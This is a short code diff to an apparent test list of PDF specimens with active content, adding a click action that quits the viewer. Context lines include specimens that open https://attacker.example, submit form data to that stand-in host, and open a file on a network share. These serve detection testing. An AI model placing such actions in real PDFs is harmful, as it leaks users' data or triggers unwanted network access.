@@ -126,6 +126,11 @@ SPECIMENS = (
     _pdf("opens-file-of-a-share", _opens("GoToR", F=_UNC, D="a"), _ACTIVE),
     _pdf("opens-address", _opens("URI", URI="https://attacker.example"), _ACTIVE),
     _pdf("opens-print-menu", _opens("Named", N=Name.Print), _ACTIVE),
+    _pdf(
+        "click-that-quits",
+        _clicked("Named", N=Name.Quit),
+        _ACTIVE,
+    ),
     _pdf("empties-fields-by-itself", _opens("ResetForm"), _ACTIVE),
     _pdf("hides-by-itself", _opens("Hide", T="a"), _ACTIVE),
     _pdf("sends-form", _clicked("SubmitForm", F="https://attacker.example"), _ACTIVE),
